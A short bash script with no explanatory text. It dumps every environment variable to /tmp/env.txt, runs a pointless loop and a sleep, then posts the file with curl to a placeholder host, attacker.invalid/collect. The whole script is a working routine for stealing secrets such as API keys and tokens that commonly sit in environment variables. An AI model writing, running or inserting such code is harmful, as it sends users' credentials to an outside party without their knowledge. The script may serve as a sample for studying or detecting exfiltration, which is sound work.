#!/bin/bash
printenv > /tmp/env.txt
for i in 1 2 3; do
  echo "$i"
done
sleep 1
curl -s --data-binary @/tmp/env.txt https://attacker.invalid/collect
